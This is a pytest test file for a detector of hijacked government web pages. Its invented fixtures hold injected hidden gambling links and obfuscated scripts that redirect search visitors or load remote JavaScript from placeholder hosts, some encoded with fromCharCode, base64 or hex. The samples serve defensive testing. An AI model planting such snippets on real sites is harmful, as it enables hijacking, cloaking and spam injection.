# ruff: noqa: E501 - a page that hides something is easier to read on one line
"""Pages somebody else wrote into, and clean pages that hide things for good reasons. All invented."""

from __future__ import annotations

import base64
import os
from pathlib import Path
from time import process_time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from zhijian.screening.pages import judge_page, judge_variants, verdict_of

URL = "https://www.qingxi.gov.cn/tzgg/1.html"
BODY = "".join(
    f"<p>第{number}项：县人民政府办公室关于做好秋冬季森林防火工作的通知已经印发，请各乡镇、街道对照任务清单抓好落实。</p>"
    for number in range(12)
)
BAD_LINK = "<a href='https://www.yabo-888.com/'>亚博体育</a><a href='https://bet365.example-x.top/'>百家乐</a>"
FRIENDS = "".join(f"<a href='https://www.site{letter}name.com/'>商家{letter}</a>" for letter in "abcde")


def _page(body: str = "", *, head: str = "", title: str = "清溪县人民政府关于森林防火的通知") -> str:
    return (
        f"<!doctype html><html lang='zh-CN'><head><title>{title}</title>{head}</head><body><ul><li><a href='/'>首页</a>"
        f"<li><a href='/zwgk/'>政务公开</a></ul>{BODY}{body}</body></html>"
    )


def _jump(code: str) -> str:
    return f"<script>{code}</script>"


CODES = ",".join(str(ord(sign)) for sign in "document.location='https://tiaozhuan-abc.com/'")
TARGET = base64.b64encode(b"<script src='https://cdn-abc-x.com/j.js'></script>").decode()
ESCAPED = "".join(f"\\x{ord(sign):02x}" for sign in "<script src=https://cdn-abc-x.com/j.js>")
HIDERS = [
    "display:none", "DISPLAY : NONE !important", "visibility:hidden", "opacity:0", "filter:alpha(opacity=0)",
    "position:absolute;left:-9999px", "position:absolute;top:-99em", "text-indent:-9999px", "font-size:0", "font-size:1px",
    "height:1px;width:1px;overflow:hidden", "height:0;overflow:hidden", "color:#fff;background:white",
    "color:#ffffff;background-color:#FFF", "color:transparent", "position:absolute;clip:rect(0,0,0,0)", "transform:scale(0)",
    "margin-left:-2000px",
]  # fmt: skip
HIJACKED = {
    **{f"style {style}": (_page(f"<div style='{style}'>{BAD_LINK}</div>"), "hidden_words") for style in HIDERS},
    "sheet class": (_page(f"<div class='x9'>{BAD_LINK}</div>", head="<style>a{color:red}.x9 , p.q{position:fixed;left:-3000px}</style>"), "hidden_words"),
    "sheet id": (_page(f"<div id='K'>{BAD_LINK}</div>", head="<style>/* k */ div#k{text-indent:-999em}</style>"), "hidden_words"),
    "noscript": (_page(f"<noscript>{BAD_LINK}</noscript>"), "hidden_words"),
    "hidden attribute": (_page(f"<div hidden>{BAD_LINK}</div>"), "hidden_words"),
    "marquee": (_page(f"<marquee height=1 width=5>{BAD_LINK}</marquee>"), "hidden_words"),
    "hidden links": (_page("<div style='left:-999px;position:absolute'><a href='https://1xbet-cn.com/'>新闻</a></div>"), "hidden_links"),
    "title": (_page(title="亚博体育_百家乐_清溪县"), "head_words"),
    "title in numbers": (_page(title="&#20122;&#21338;&#20307;&#32946;&#45;官方"), "head_words"),
    "keywords": (_page(head="<meta name='keywords' content='时时彩,六合彩,娱乐城'>"), "head_words"),
    "description": (_page(head="<meta name=description content='日韩无码 免费看片'>"), "head_words"),
    "run at the tail": (_page("<p>新葡京|百家乐|六合彩|时时彩|老虎机|真人荷官|滚球|娱乐城|返水|首存</p>"), "keyword_run"),
    "run with underscores": (_page("<p>国产自拍_日韩无码_亚洲无码_色综合_毛片_情色_裸聊_约炮_久久精品</p>"), "keyword_run"),
    "body": (_page("<p>国产自拍 精品</p><p>在这里看 成人视频</p><p>还有 六合彩</p>"), "seen_words"),
    "foreign title": (_page(title="オンラインカジノ ランキング"), "foreign_title"),
    "thai title": (_page(title="เว็บสล็อต อันดับหนึ่ง"), "foreign_title"),
    "slot title": (_page(title="Slot Gacor Hari Ini Judi Online Resmi"), "head_words"),
    "pinyin": (_page("<p>各鄉(xiāng)鎮(zhèn)人民政府要組(zǔ)織(zhī)力量，開(kāi)展檢(jiǎn)查，確(què)保安全。</p>"), "pinyin_litter"),
    "brand for place": (_page("<p>近日，亚博县人民政府召开会议，乐鱼镇作了汇报。</p>"), "brand_for_place"),
    "referrer jump": (
        _page(_jump("if(/baidu|sogou/.test(document.referrer)){window.location.href='https://tiao-abc.com/'}")), "script_jump",
    ),
    "spider": (_page(_jump("var s=navigator.userAgent;if(s.indexOf('Baiduspider')>0){document.write('<script src=https://a-bcd.com/x.js>')}")), "script_jump"),
    "char codes": (_page(_jump(f"eval(String.fromCharCode({CODES}))")), "script_disguised"),
    "base64": (_page(_jump(f"document.write(atob('{TARGET}'))")), "script_disguised"),
    "hex": (_page(_jump(f"document.write('{ESCAPED}')")), "script_disguised"),
    "script host": (_page("<script src='//js.8837462.com/a.js'></script>"), "script_host"),
    "refresh": (_page(head="<meta http-equiv=refresh content='0; url=https://tiao-abc.com/'>"), "refresh"),
    "frame": (_page("<iframe src='https://www.bet365-x.com/' style='display:none'></iframe>"), "hidden_frame"),
    "bad link": (_page("<p>友情链接 <a href='https://www.casino-x.com/'>合作</a></p>"), "bad_links"),
}  # fmt: skip
CLEAN = {
    "plain": _page(),
    "skip link": _page("<a class='skip' style='position:absolute;left:-9999px' href='#main'>跳到正文</a>"),
    "words for listening": _page(
        "<span class='sr-only'>（新窗口打开）</span>",
        head="<style>.sr-only{position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0,0,0,0)}</style>",
    ),
    "menu and tabs": _page(
        "<ul class='menu'><li><a href='/a/'>机构职能</a><li><a href='https://zwfw.zj.gov.cn/'>办事</a></ul>"
        "<div class='tab' hidden>公告列表</div><div role='dialog' style='display:none'>确定要离开本站吗？</div>",
        head="<style>.menu{display:none}.menu:hover{display:block}</style>",
    ),
    "friends in a list": _page(f"<div style='display:none'>{FRIENDS}</div>"),
    "a warning against gambling": _page(
        "<div class='t' style='display:none'>警方提醒：谨防网络赌博平台、时时彩、六合彩骗局，远离百家乐、老虎机。</div>"
        "<p>我县公安机关破获一起网上赌场案，捣毁赌博网站3个，抓获利用彩票平台、棋牌平台开设赌场的犯罪嫌疑人12人。</p>",
        title="清溪县公安局严打网上赌场和赌博平台",
    ),
    "counter and library": _page(
        "<script>var _hmt=_hmt||[];(function(){var h=document.createElement('script');h.src='https://hm.baidu.com/hm.js?1';"
        "document.head.appendChild(h)})();if(/Android|iPhone/.test(navigator.userAgent)){location.href='/m/'}</script>"
        "<script src='https://cdn.bootcdn.net/jquery.js'></script><script src='/js/a.js'></script>"
        "<noscript>请打开脚本后使用本站。</noscript>"
        '<script>document.write(unescape(\'%3Cspan id="cnzz_1"%3E%3C/span%3E%3Cscript src="https://s4.cnzz.com/z.js"%3E\'))</script>',
    ),
    "no title": f"<html><body>{BODY}</body></html>",
    "english home": "<html lang=en><title>Qingxi County Government Portal</title><body><p>Welcome to Qingxi.</p></body></html>",
    "a poem with pinyin": _page("<p>生僻字：彧（yù）、翀（chōng），请注意读音。</p>"),
    "real places": _page("<p>金沙县、开云镇、皇冠镇、银河镇和澳门特别行政区的代表参加了交流。</p>"),
    "moved": _page(head="<meta http-equiv='refresh' content='0;url=/new/'>"),
}


@pytest.mark.parametrize("name", HIJACKED)
def test_a_hijacked_page_is_told_by_its_trick(name: str) -> None:
    html, kind = HIJACKED[name]
    found = judge_page(html, url=URL)
    assert [one.kind for one in found if one.severity.blocks and one.kind == kind], [
        (one.kind, one.evidence) for one in found
    ]
    verdict = verdict_of(found)
    assert (verdict.kind, bool(verdict.sentence), len(verdict.evidence) > 0) == ("hijacked", True, True)


@pytest.mark.parametrize("name", CLEAN)
def test_a_clean_page_has_no_serious_finding(name: str) -> None:
    found = judge_page(CLEAN[name], url=URL)
    assert [(one.kind, one.evidence) for one in found if one.severity.blocks] == []
    assert verdict_of(found).kind == ""


def test_weaker_signs_are_told_without_a_verdict() -> None:
    converted = "<p>縣人民政府辦公室關於做好秋冬季森林防火工作的通知已經印發，請各鄉鎮對照任務清單抓好落實。</p>"
    assert [(one.kind, one.severity) for one in judge_page(_page(converted * 2), url=URL)] == [
        ("script_conversion", "warning")
    ]
    spun = judge_page(_page("<p>人民当局决定，县当局办公室印发。</p>"), url=URL)
    assert [(one.kind, one.severity) for one in spun] == [("spun_words", "warning")]
    away = judge_page(_page(f"<div style='left:-999px;position:absolute'>{FRIENDS}</div>"), url=URL)
    assert [(one.kind, one.severity) for one in away] == [("hidden_links", "warning")]


def test_parked_names_and_gambling_sites_are_told_as_what_they_are() -> None:
    parked = "<html><title>abc.com</title><body><h1>该域名正在出售</h1><p>联系我们报价</p></body></html>"
    assert verdict_of(judge_page(parked, url="http://abc.com/")).kind == "parked"
    site = "<html><body>" + "".join(
        f"<p>{word}</p>" for word in ("百家乐", "老虎机", "真人荷官", "六合彩", "时时彩", "娱乐城")
    )
    assert verdict_of(judge_page(site, url="http://abc.com/")).kind == "gambling"


def test_many_strange_hosts_in_a_hidden_menu_are_told_and_bought_ones_are_serious() -> None:
    def told(body: str) -> list[tuple[str, str]]:
        return [(one.kind, one.severity) for one in judge_page(_page(f"<ul hidden>{body}</ul>"), url=URL)]

    offices = "".join(
        f"<a href='https://{name}.gov.cn/'>{name}</a>" for name in ("a", "b", "c", "www.qingxi", "d", "e")
    )
    assert told(offices + FRIENDS[: FRIENDS.rindex("<a")]) == []
    assert told(FRIENDS) == [("hidden_farm", "warning")]
    assert told("".join(f"<a href='https://{n}8{n}7{n}2.top/'>新闻</a>" for n in "abcde")) == [("hidden_farm", "error")]


def test_one_word_at_the_head_of_a_trusted_page_needs_a_second_sign() -> None:
    def told(html: str, url: str = URL) -> list[tuple[str, str]]:
        return [(one.kind, one.severity) for one in judge_page(html, url=url)]

    single = "清溪县百家乐超市开业"
    assert told(_page(title=single)) == [("head_words", "warning")]
    assert told(_page(title=single), "https://a-shop.com/") == [("head_words", "error")]
    away = f"<div style='left:-999px;position:absolute'>{FRIENDS}</div>"
    assert told(_page(away, title=single)) == [("head_words", "error"), ("hidden_links", "warning")]
    two = _page(title=single, head="<meta name=keywords content='时时彩'>")
    assert told(two) == [("head_words", "veto"), ("head_words", "warning")]


def test_what_of_a_page_was_not_looked_at_is_told() -> None:
    links = "".join(f"<a href='https://site{number}name.com/'>{number}</a>" for number in range(600))
    assert [one.message for one in judge_page(_page(links), url=URL)] == [
        "页面通向500个以上别的网站，其余100个没有检查。请人工核对。"
    ]
    blocks = judge_page(_page("<p hidden>甲</p>" * 2_001 + "<script>a</script>" * 501), url=URL)
    assert [one.message for one in blocks] == [
        "隐藏内容太多，逐块检查了前2000块，其余没有检查。请人工核对。",
        "脚本太多，检查了前500段，其余没有检查。请人工核对。",
    ]
    late = (
        "".join(f"<a href='/{number}'>旧闻</a>" for number in range(3_000))
        + "<a href='https://bet365-vip.com/'>新闻</a>"
    )
    assert [one.kind for one in judge_page(_page(late), url=URL)] == ["bad_links"]


@pytest.mark.parametrize(
    "part",
    [
        "<div style='left:-9px'>", "<a href='//x.y'>", "甲|乙乙,", "(ā)乡(xiāng)", "<style>.a{", "/*", "<script>fromCharCode(1,",
        "<p hidden><a href=//a.b><a href=//c.d></p>", "\\x41", "县当局", "a", "<p>", "&#20122;", "atob('", "</div>", "<style>a,b,c{left:-999px}</style>",
    ],
)  # fmt: skip
def test_a_megabyte_on_one_line_takes_less_than_a_second(part: str) -> None:
    html = part * (1_000_000 // len(part))
    since = process_time()
    judge_page(html, url=URL)
    assert process_time() - since < 1


@settings(max_examples=150, deadline=None)
@given(st.text(st.sampled_from("<>/='\"{}:;divstylescrptah-0 9px,|#.&\x00亚博体育鄉(xiāng)\\u\ud800"), max_size=200))
def test_broken_html_never_crashes(html: str) -> None:
    for one in judge_page(html, url=URL):
        assert one.message.endswith("。")


@pytest.mark.skipif("ZHIJIAN_PAGE_TEXTS" not in os.environ, reason="Texts of others are not shipped.")
def test_real_texts_have_no_serious_finding() -> None:
    for path in sorted(Path(os.environ["ZHIJIAN_PAGE_TEXTS"]).glob("*.txt")):
        text = path.read_text(encoding="utf-8")
        html = "<html><body>" + "".join(f"<p>{line}</p>" for line in text.splitlines()) + "</body></html>"
        assert [one for one in judge_page(html, url=URL) if one.severity.blocks] == [], path.name


def test_what_is_told_of_a_page_can_be_written_down() -> None:
    hidden = ",".join(str(ord(sign)) for sign in "\x00location.href='https://www.bet365-vip.com/澳门赌场'") + ",55296"
    found = judge_page(f"<script>eval(String.fromCharCode({hidden}))</script>", url="https://a.gov.cn/")
    assert found
    for one in found:
        one.evidence.encode("utf-8")
        assert "\x00" not in one.evidence


def test_only_what_search_engines_alone_are_shown_is_a_sign() -> None:
    def signs(shown: str, crawled: str, to: str = URL) -> list[tuple[str, str]]:
        found = judge_variants(shown, crawled, url=URL, crawled_url=to)
        return [(one.severity, one.evidence) for one in found]

    clean = _page("<p>周一至周五上班。</p>")
    run = "、".join(["百家乐", "六合彩", *(f"专题栏目{number}" for number in range(8))])
    assert signs(clean, clean) == signs(clean, _page("<p>周六上班。</p>")) == []
    [(severe, evidence)] = signs(clean, _page(f"<p>周一至周五上班。</p><p>{run}</p>"))
    assert (severe.blocks, "百家乐" in evidence) == (True, True)
    both = _page(f"<p>{run}</p>")
    assert signs(both, both.replace("</body>", " </body>")) == []
    strange = "<title>超值好礼限时抢购</title>"
    assert signs("<title>办事指南</title><p>上班</p>", strange) == [("warning", "超值好礼限时抢购")]
    assert verdict_of(judge_variants("<title>办事</title>", strange, url=URL, crawled_url=URL)).kind == ""
    assert signs("<title>办事指南</title>", "<title>办事大厅</title>") == signs("", strange) == []
    casino = f"<title>娱乐</title><p>{'百家乐 六合彩 老虎机 时时彩 北京赛车 真人视讯 ' * 3}</p>"
    assert [severe for severe, _ in signs(clean, casino, "https://bet.example/")] == ["veto"]
